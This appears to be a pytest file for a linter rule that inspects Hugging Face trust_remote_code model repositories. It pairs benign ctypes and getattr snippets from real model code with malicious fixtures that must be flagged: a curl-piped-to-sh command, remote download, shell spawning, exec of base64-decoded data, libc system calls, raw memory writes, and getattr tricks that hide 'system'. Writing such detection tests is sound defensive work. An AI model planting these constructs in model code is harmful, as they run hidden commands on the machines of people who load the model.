"""HF503 judges what a call can reach, not the module it belongs to: two tables of
constructs, written from the ones popular trust_remote_code repositories use (ChatGLM's
quantization kernels, Qwen/InternLM/DeepSeek/MiniCPM device and dtype lookups) and the ones
malicious repositories use. Each benign line must stay silent; each malicious one must be
reported, with the name it reaches in the detail."""

from __future__ import annotations

import json

import pytest

from conftest import MakeRepo
from hflint.config import Config
from hflint.engine import scan

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})


def details(make_repo: MakeRepo, source: str) -> list[str]:
    root = make_repo({"modeling_x.py": source, "config.json": CONFIG})
    result = scan(root, Config(select=("HF503", "HF001"), fail_on=None))
    return [f.message for f in result.findings]


BENIGN = {
    # ChatGLM/ChatGLM2/ChatGLM3 quantization.py and Baichuan's quantizer: tensor pointers and
    # sizes handed to a CUDA kernel as C values.
    "ctypes-value-constructors": (
        "import ctypes\n"
        "def run(kernel, w, out, n, m):\n"
        "    kernel((n, 1, 1), (m, 1, 1), 0, None,\n"
        "           [ctypes.c_void_p(w.data_ptr()), ctypes.c_void_p(out.data_ptr()),\n"
        "            ctypes.c_int32(n), ctypes.c_int32(m)])\n"
    ),
    "ctypes-from-import": "from ctypes import c_void_p, c_int64\nx = c_void_p(0)\ny = c_int64(5)\n",
    "ctypes-type-declarations": (
        "import ctypes\n"
        "class Header(ctypes.Structure):\n"
        "    _fields_ = [('n', ctypes.c_uint32), ('p', ctypes.POINTER(ctypes.c_float))]\n"
        "h = Header()\nsize = ctypes.sizeof(h)\nbuf = ctypes.create_string_buffer(16)\nref = ctypes.byref(h)\n"
    ),
    "getattr-for-literal-tuple": (
        "import torch\n"
        "def device():\n"
        "    for ns in ('xpu', 'cuda', 'hpu', 'mps'):\n"
        "        mod = getattr(torch, ns, None)\n"
        "        if mod is not None and mod.is_available():\n"
        "            return ns\n"
    ),
    "getattr-comprehension-literal-list": (
        "import torch\nDTYPES = [getattr(torch, n) for n in ['float16', 'bfloat16', 'float32']]\n"
    ),
    "getattr-dict-comprehension-over-dict-keys": (
        "import torch.nn.functional as F\nACT = {k: getattr(F, k) for k in {'gelu': 1, 'silu': 2}}\n"
    ),
    "getattr-module-constant": (
        "import torch\nNAMES = ('float16', 'bfloat16')\n"
        "def dtypes():\n    return [getattr(torch, name) for name in NAMES]\n"
    ),
    "getattr-loop-then-nested-function": (
        "import torch\nfor name in ('cuda',):\n    pass\ndef f():\n    return getattr(torch, name)\n"
    ),
    "getattr-literal-name": "import torch\nx = getattr(torch, 'float16')\n",
    "getattr-on-self-is-not-a-module": "class A:\n    def f(self, name):\n        return getattr(self, name)\n",
}

MALICIOUS = {
    "cdll-load": ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'id')\n", "ctypes.CDLL()"),
    "cdll-loader-attribute": ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6')\n", "ctypes.cdll.LoadLibrary()"),
    "windll": ("import ctypes\nctypes.windll.kernel32.WinExec(b'calc', 1)\n", "ctypes.windll.kernel32.WinExec()"),
    "pythonapi": ("import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'print(1)')\n", "ctypes.pythonapi"),
    "cfunctype-at-address": (
        "import ctypes\nf = ctypes.CFUNCTYPE(ctypes.c_int)(0x1234)\nf()\n",
        "ctypes.CFUNCTYPE()",
    ),
    "cast-to-function-pointer": (
        "import ctypes\nFN = ctypes.CFUNCTYPE(None)\nctypes.cast(0x1234, FN)()\n",
        "ctypes.cast()",
    ),
    "memmove": ("import ctypes\nctypes.memmove(0x1000, b'\\x90' * 8, 8)\n", "ctypes.memmove()"),
    # A data pointer at an address reads and writes any memory: a write-what-where primitive.
    "cast-to-data-pointer": (
        "import ctypes\np = ctypes.cast(0x1000, ctypes.POINTER(ctypes.c_char))\np[0] = b'x'\n",
        "ctypes.cast()",
    ),
    "array-type-from-address": (
        "import ctypes\nbuf = (ctypes.c_char * 64).from_address(0x1000)\n",
        ".from_address() on a ctypes type",
    ),
    "structure-subclass-from-address": (
        "import ctypes\nclass H(ctypes.Structure):\n    _fields_ = [('a', ctypes.c_int)]\n"
        "h = H.from_address(0x1000)\n",
        ".from_address() on a ctypes type",
    ),
    "pointer-object": ("import ctypes\np = ctypes.pointer(ctypes.c_int(0))\np[4096] = 1\n", "ctypes.pointer()"),
    "from-address": ("import ctypes\nv = ctypes.c_int.from_address(0x1000)\n", "ctypes.c_int.from_address()"),
    "ctypes-star-import": ("from ctypes import *\nCDLL('libc.so.6')\n", "from ctypes import *"),
    "cffi": ("import cffi\nffi = cffi.FFI()\n", "cffi.FFI()"),
    "getattr-literal-loop-reaches-system": (
        "import os\nfor n in ('system',):\n    getattr(os, n)('id')\n",
        "reaches os.system()",
    ),
    "getattr-comprehension-reaches-exec": (
        "import builtins\nfs = [getattr(builtins, n) for n in ['print', 'exec']]\n",
        "reaches builtins.exec()",
    ),
    "getattr-loop-variable-reassigned": (
        "import os\nfor n in ('path',):\n    n = 'sys' + 'tem'\n    getattr(os, n)('id')\n",
        "computed name",
    ),
    "getattr-parameter": ("import os\ndef f(name):\n    return getattr(os, name)\n", "computed name"),
    "getattr-mutated-constant": (
        "import os\nNAMES = ['path']\nNAMES.append('system')\nfor n in NAMES:\n    getattr(os, n)\n",
        "computed name",
    ),
    "getattr-walrus-in-comprehension": (
        "import os\n[getattr(os, n) for x in ['a'] if (n := 'system')]\n",
        "computed name",
    ),
    "os-system": ("import os\nos.system('curl x.invalid | sh')\n", "os.system()"),
    "subprocess": ("import subprocess\nsubprocess.Popen(['sh'])\n", "subprocess.Popen()"),
    "exec-decoded": (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "runs data decoded with base64.b64decode",
    ),
    "urllib-download": (
        "import urllib.request\nurllib.request.urlretrieve('http://x.invalid/p', 'p')\n",
        "urllib.request.urlretrieve()",
    ),
}


@pytest.mark.parametrize("source", BENIGN.values(), ids=BENIGN.keys())
def test_benign_constructs_are_silent(make_repo: MakeRepo, source: str) -> None:
    assert details(make_repo, source) == []


@pytest.mark.parametrize(("source", "reached"), MALICIOUS.values(), ids=MALICIOUS.keys())
def test_malicious_constructs_are_reported(make_repo: MakeRepo, source: str, reached: str) -> None:
    found = details(make_repo, source)
    assert any(reached in d for d in found), found
